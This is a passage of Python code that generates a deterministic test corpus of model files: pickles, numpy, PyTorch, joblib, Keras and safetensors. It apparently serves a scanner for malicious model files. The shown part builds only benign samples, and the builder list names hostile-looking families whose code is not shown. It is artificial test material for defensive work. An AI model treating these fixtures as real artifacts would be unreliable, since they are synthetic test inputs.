        writer.add("npy-object", variant, zip_bytes(members, compression, zip64=True), ".npz")


# =================================================================================== benign families


def _benign_builtins(writer: _Writer) -> None:
    recursive: list[object] = [1, 2]
    recursive.append(recursive)
    cyclic: JSON = {"name": "self"}
    cyclic["self"] = cyclic
    values: list[tuple[str, object]] = [
        ("dict", {"lr": 0.001, "epochs": 10, "name": "uptake", "layers": [4, 3, 2]}),
        ("list", [1, 2.5, "three", None, True, False]),
        (
            "tuple",
            (1, (2, (3, ()))),
        ),
        ("set", {1, 2, 3, 1000}),
        ("frozenset", frozenset({7, 8, 9})),
        ("bytes", bytes(range(256))),
        ("bytearray", bytearray(b"uptake" * 10)),
        ("str", "Grüße, 世界 — uptake\n\\ tab\t"),
        ("big-int", 2**200 - 1),
        ("negative-int", -(2**70)),
        ("float", 3.141592653589793),
        ("none", None),
        ("bool", [True, False]),
        ("nested", {"a": [{"b": (1, 2, {"c": [3.0, None]})}], "d": {"e": {"f": b"\x00\xff"}}}),
        ("recursive-list", recursive),
        ("recursive-dict", cyclic),
        ("long-str", "x" * 70000),
        ("shared-references", [["shared"], ["shared"]] * 3),
    ]
    for index, (name, value) in enumerate(values):
        for protocol in (index % 6, (index + 3) % 6):
            writer.add("benign-builtins", f"p{protocol}-{name}", pickle.dumps(value, protocol=protocol))


def _benign_stdlib(writer: _Writer) -> None:
    import argparse
    import collections
    import decimal
    import fractions
    import pathlib
    import re
    import uuid

    deque = collections.deque([1, 2, 3])
    bounded = collections.deque([1, 2, 3], maxlen=5)
    defaults_list: collections.defaultdict[str, list[int]] = collections.defaultdict(list, {"a": [1]})
    defaults_int: collections.defaultdict[str, int] = collections.defaultdict(int, {"b": 2})
    moment = datetime.datetime(2024, 5, 1, 12, 30, 15, 250, tzinfo=datetime.timezone(datetime.timedelta(hours=2)))
    values: list[tuple[str, object]] = [
        ("counter", collections.Counter({"a": 3, "b": 1})),
        ("deque", deque),
        ("deque-maxlen", bounded),
        ("defaultdict-list", defaults_list),
        ("defaultdict-int", defaults_int),
        ("ordered-dict", collections.OrderedDict([("z", 1), ("a", 2)])),
        ("datetime", moment),
        ("date", datetime.date(2024, 5, 1)),
        ("time", datetime.time(12, 30)),
        ("timedelta", datetime.timedelta(days=1, seconds=5)),
        ("timezone", datetime.UTC),
        ("decimal", decimal.Decimal("3.14159")),
        ("fraction", fractions.Fraction(22, 7)),
        ("uuid", uuid.UUID("12345678-1234-5678-1234-567812345678")),
        ("regex", re.compile(r"^uptake-\d+$", re.IGNORECASE)),
        ("pure-posix-path", pathlib.PurePosixPath("/models/uptake/model.gguf")),
        ("pure-windows-path", pathlib.PureWindowsPath("C:/models/uptake.gguf")),
        ("complex", complex(1.5, -2.0)),
        ("namespace", argparse.Namespace(lr=0.1, epochs=3, model="uptake")),
        ("simple-namespace", types.SimpleNamespace(seed=0, tag="uptake")),
    ]
    for index, (name, value) in enumerate(values):
        for protocol in ((0, 2, 4, 5)[index % 4], (0, 2, 4, 5)[(index + 2) % 4]):
            writer.add("benign-stdlib", f"p{protocol}-{name}", pickle.dumps(value, protocol=protocol))
    for type_name, protocol in (("list", 4), ("dict", 4), ("tuple", 2), ("bytes", 3)):
        node: dict[str, Node] = {"kind": Call(Ref("dill._dill", "_load_type"), (type_name,)), "value": [1, 2]}
        writer.add("benign-stdlib", f"p{protocol}-dill-load-type-{type_name}", assemble(node, protocol))


def _benign_numpy(writer: _Writer) -> None:
    family = "benign-numpy"
    rng = np.random.default_rng(7)
    objects: list[tuple[str, object]] = [
        ("float32", rng.standard_normal((3, 4)).astype("<f4")),
        ("int64", np.arange(10, dtype="<i8")),
        ("bool", np.array([True, False, True])),
        ("complex", np.array([1 + 2j, 3 - 4j])),
        ("structured", np.array([(1, 2.5), (3, 4.5)], dtype=[("a", "<i4"), ("b", "<f8")])),
        ("fortran", np.asfortranarray(np.arange(6.0).reshape(2, 3))),
        ("zero-d", np.array(3.5)),
        ("big-endian", np.arange(4, dtype=">f8")),
        ("unicode", np.array(["ab", "cde"])),
        ("datetime64", np.array(["2024-05-01", "2024-05-02"], dtype="datetime64[D]")),
        ("scalar-float64", np.float64(1.5)),
        ("scalar-int32", np.int32(7)),
        ("dtype", np.dtype("<f4")),
        ("dtype-structured", np.dtype([("x", "<f4"), ("y", "<i2")])),
    ]
    for index, (name, value) in enumerate(objects):
        protocol = (2, 4, 5)[index % 3]
        writer.add(family, f"p{protocol}-{name}", pickle.dumps(value, protocol=protocol))
    arrays = {"weights": rng.standard_normal((4, 3)).astype("<f4"), "bias": np.zeros(3, "<f4")}
    writer.add(family, "npy-float32", npy_bytes(arrays["weights"]), ".npy")
    writer.add(family, "npy-int16-big-endian", npy_bytes(np.arange(12, dtype=">i2").reshape(3, 4)), ".npy")
    writer.add(family, "npy-v2-header", npy_bytes(np.arange(5, dtype="<u1"), version=(2, 0)), ".npy")
    writer.add(family, "npy-structured", npy_bytes(np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")])), ".npy")
    members = [(f"{name}.npy", npy_bytes(array)) for name, array in arrays.items()]
    writer.add(family, "npz-savez", zip_bytes(members, zip64=True), ".npz")
    writer.add(family, "npz-savez-compressed", zip_bytes(members, zipfile.ZIP_DEFLATED, zip64=True), ".npz")
    writer.add(family, "npz-positional", zip_bytes([("arr_0.npy", npy_bytes(np.eye(3)))], zip64=True), ".npz")


def _benign_torch(writer: _Writer) -> None:
    family = "benign-torch"
    one = {"weight": Tensor("FloatStorage", "0", (2, 2))}
    norm = {
        "bn.weight": Tensor("FloatStorage", "0", (3,)),
        "bn.bias": Tensor("FloatStorage", "1", (3,)),
        "bn.running_mean": Tensor("FloatStorage", "2", (3,)),
        "bn.num_batches_tracked": Tensor("LongStorage", "3", ()),
    }
    half = {"embed.weight": Tensor("HalfStorage", "0", (8, 4))}
    shared = {
        "qkv.q": Tensor("FloatStorage", "0", (2, 2), offset=0, numel=12),
        "qkv.k": Tensor("FloatStorage", "0", (2, 2), offset=4, numel=12),
        "qkv.v": Tensor("FloatStorage", "0", (2, 2), offset=8, numel=12),
    }
    mixed = {"w": Tensor("BFloat16Storage", "0", (4,)), "q": Tensor("CharStorage", "1", (4,))}
    zips: list[tuple[str, Node, dict[str, Tensor], str, str]] = [
        ("zip-state-dict-one", state_dict(one), one, "archive", ".pt"),
        ("zip-state-dict-batchnorm", state_dict(norm), norm, "archive", ".pth"),
        ("zip-state-dict-half", state_dict(half), half, "pytorch_model", ".bin"),
        ("zip-new-layout", state_dict(MLP_TENSORS), MLP_TENSORS, "archive", ".pt"),
        ("zip-shared-storage", state_dict(shared), shared, "archive", ".pt"),
        ("zip-bfloat16-int8", state_dict(mixed), mixed, "archive", ".pt"),
        ("zip-full-model-sequential", mlp_node(MLP_TENSORS), MLP_TENSORS, "archive", ".pt"),
        ("zip-full-model-user-class", mlp_node(MLP_TENSORS, user_class=True), MLP_TENSORS, "archive", ".pth"),
        ("zip-training-checkpoint", _training_checkpoint(state_dict(MLP_TENSORS)), MLP_TENSORS, "archive", ".ckpt"),
    ]
    for variant, node, tensors, prefix, suffix in zips:
        new_layout = variant == "zip-new-layout"
        data = torch_zip(assemble(node, 2), list(tensors.values()), prefix=prefix, new_layout=new_layout)
        writer.add(family, variant, data, suffix)
    legacy_mlp = {
        name: Tensor(t.storage_type, f"9420155421{index}", t.shape)
        for index, (name, t) in enumerate(MLP_TENSORS.items())
    }
    legacy: list[tuple[str, Node, dict[str, Tensor], str]] = [
        ("legacy-state-dict", state_dict(LEGACY_STATE, legacy=True), LEGACY_STATE, ".pt"),
        ("legacy-full-model", mlp_node(legacy_mlp, legacy=True), legacy_mlp, ".pth"),
        ("legacy-training-checkpoint", _training_checkpoint(state_dict(legacy_mlp, legacy=True)), legacy_mlp, ".bin"),
    ]
    for variant, node, tensors, suffix in legacy:
        streams = [assemble(n, 2) for n in legacy_streams(node, list(tensors.values()))]
        writer.add(family, variant, legacy_torch(streams, list(tensors.values())), suffix)


def _training_checkpoint(model_state: Node) -> Node:
    group: dict[str, Node] = {
        "lr": 0.01,
        "betas": (0.9, 0.999),
        "eps": 1e-08,
        "weight_decay": 0,
        "params": [0, 1, 2, 3],
    }
    optimizer: dict[str, Node] = {"state": {}, "param_groups": [group]}
    return {"epoch": 3, "global_step": 120, "state_dict": model_state, "optimizer_states": [optimizer]}


def _benign_sklearn(writer: _Writer) -> None:
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    family = "benign-sklearn"
    rng = np.random.default_rng(0)
    features = rng.standard_normal((40, 3))
    labels = (features[:, 0] + features[:, 1] > 0).astype(int)
    models: list[tuple[str, object]] = [
        ("logistic-regression", LogisticRegression().fit(features, labels)),
        ("standard-scaler", StandardScaler().fit(features)),
        ("pipeline", make_pipeline(StandardScaler(), LogisticRegression()).fit(features, labels)),
        ("random-forest", RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(features, labels)),
    ]
    for index, (name, model) in enumerate(models):
        protocol = (2, 4, 5, 3)[index]
        writer.add(family, f"pickle-p{protocol}-{name}", pickle.dumps(model, protocol=protocol))
    dumps: list[tuple[str, object, str | None, str]] = [
        ("joblib-logistic-regression", models[0][1], None, ".joblib"),
        ("joblib-random-forest", models[3][1], None, ".joblib"),
        ("joblib-zlib-pipeline", models[2][1], "zlib", ".pkl"),
        ("joblib-gzip-standard-scaler", models[1][1], "gzip", ".gz"),
        ("joblib-bz2-logistic-regression", models[0][1], "bz2", ".joblib"),
        ("joblib-xz-random-forest", models[3][1], "xz", ".joblib"),
        ("joblib-lzma-pipeline", models[2][1], "lzma", ".joblib"),
        ("joblib-numpy-arrays", {"x": features, "y": labels}, None, ".joblib"),
        ("joblib-numpy-array-zlib", features, "zlib", ".z"),
    ]
    for variant, value, method, suffix in dumps:
        path = writer.path(family, variant + suffix)
        joblib.dump(value, path, compress=(method, 3) if method else 0)
        writer.record(family, variant, path)


def _benign_keras(writer: _Writer) -> None:
    family = "benign-keras"
    conv = {"filters": 2, "kernel_size": [3, 3], "strides": [1, 1], "padding": "same", "activation": "relu"}
    layer_sets: list[tuple[str, list[tuple[str, str, JSON]], bool]] = [
        ("sequential-dense", [("Dense", "dense", keras2_dense(3)), ("Dense", "dense_1", keras2_dense(2))], False),
        ("sequential-dropout", [("Dense", "dense", keras2_dense(3)), ("Dropout", "dropout", {"rate": 0.5})], False),
        ("functional-dense", [("Dense", "dense", keras2_dense(3)), ("Dense", "dense_1", keras2_dense(2))], True),
        ("sequential-conv2d", [("Conv2D", "conv2d", conv), ("Flatten", "flatten", {})], False),
    ]
    weights = dense_weights(3)
    h5_weights = {
        "dense": {"kernel:0": weights[0], "bias:0": weights[1]},
        "dense_1": {"kernel:0": weights[2], "bias:0": weights[3]},
    }
    for variant, layers, functional in layer_sets:
        path = writer.path(family, variant + ".h5")
        keras_h5(path, json.dumps(keras2_model(layers, functional)), "2.15.0", h5_weights)
        writer.record(family, variant, path)
    keras3_weights = keras3_weights_h5({"dense": weights[:2], "dense_1": weights[2:]})
    dense_layers = [keras3_layer("Dense", "dense", keras3_dense(3)), keras3_layer("Dense", "dense_1", keras3_dense(2))]
    dropout = keras3_layer("Dropout", "dropout", {"rate": 0.25, "seed": None})
    for variant, config in (
        ("keras-sequential-dense", keras3_model(dense_layers)),
        ("keras-functional-dense", keras3_model(dense_layers, "Functional")),
        ("keras-sequential-dropout", keras3_model([dense_layers[0], dropout, dense_layers[1]])),
        ("keras-compact-json", keras3_model(dense_layers)),
    ):
        separators = (",", ":") if "compact" in variant else None
        writer.add(family, variant, keras_zip(json.dumps(config, separators=separators), keras3_weights), ".keras")


def safetensors_bytes(tensors: dict[str, tuple[str, tuple[int, ...], bytes]], metadata: dict[str, str] | None) -> bytes:
    """The safetensors layout: u64 header length, JSON header padded with spaces to 8 bytes, data."""
    header: JSON = {"__metadata__": metadata} if metadata else {}
    offset, data = 0, b""
    for name in sorted(tensors):
        dtype, shape, raw = tensors[name]
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [offset, offset + len(raw)]}
        offset, data = offset + len(raw), data + raw
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def _benign_safetensors(writer: _Writer) -> None:
    rng = np.random.default_rng(11)
    weight = rng.standard_normal((4, 3)).astype("<f4")
    files: list[tuple[str, dict[str, tuple[str, tuple[int, ...], bytes]], dict[str, str] | None]] = [
        ("one-f32", {"weight": ("F32", (4, 3), weight.tobytes())}, {"format": "pt"}),
        (
            "linear-f16",
            {
                "linear.weight": ("F16", (4, 3), weight.astype("<f2").tobytes()),
                "linear.bias": ("F16", (3,), np.zeros(3, "<f2").tobytes()),
            },
            {"format": "pt"},
        ),
        ("bf16", {"embed": ("BF16", (4, 3), (weight.view("<u4") >> 16).astype("<u2").tobytes())}, None),
        (
            "int64-and-bool",
            {
                "ids": ("I64", (5,), np.arange(5, dtype="<i8").tobytes()),
                "mask": ("BOOL", (5,), np.array([1, 0, 1, 1, 0], "u1").tobytes()),
            },
            {"format": "np"},
        ),
        ("scalar-and-empty", {"scale": ("F64", (), np.float64(0.5).tobytes()), "empty": ("F32", (0, 3), b"")}, None),
        (
            "many-tensors",
            {f"layers.{i}.weight": ("F32", (2, 2), weight[:2, :2].tobytes()) for i in range(12)},
            {"format": "pt", "source": "uptake-corpus"},
        ),
    ]
    for variant, tensors, metadata in files:
        writer.add("benign-safetensors", variant, safetensors_bytes(tensors, metadata), ".safetensors")


_BUILDERS: list[Callable[[_Writer], None]] = [
    _pickle_plain,
    _pickle_odd_start,
    _pickle_odd_name,
    _pickle_late_stream,
    _pickle_broken_tail,
    _zip_tampered,
    _joblib_compressed,
    _keras_lambda,
    _frame_tamper,
    _npy_object,
    _benign_builtins,
    _benign_stdlib,
    _benign_numpy,
    _benign_torch,
    _benign_sklearn,
    _benign_keras,
    _benign_safetensors,
]


def build_corpus(root: Path) -> list[CorpusFile]:
    """Write every corpus file under root (sub-folders per family), deterministic (same bytes each run)."""
    writer = _Writer(Path(root))
    for build in _BUILDERS:
        build(writer)
    return writer.files
